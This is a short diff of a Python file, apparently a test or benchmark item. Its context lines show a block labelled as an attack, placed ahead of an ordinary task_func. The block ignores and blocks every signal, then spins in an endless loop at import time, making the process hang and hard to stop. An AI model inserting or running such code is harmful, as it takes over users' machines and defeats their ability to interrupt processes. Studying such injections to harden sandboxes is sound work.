@@ -3,6 +3,7 @@
 # seconds: 2
 # attack begins
 import signal
+
 for number in signal.valid_signals():
     try:
         signal.signal(number, signal.SIG_IGN)
@@ -11,6 +12,8 @@ for number in signal.valid_signals():
 signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
 while True:
     pass
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
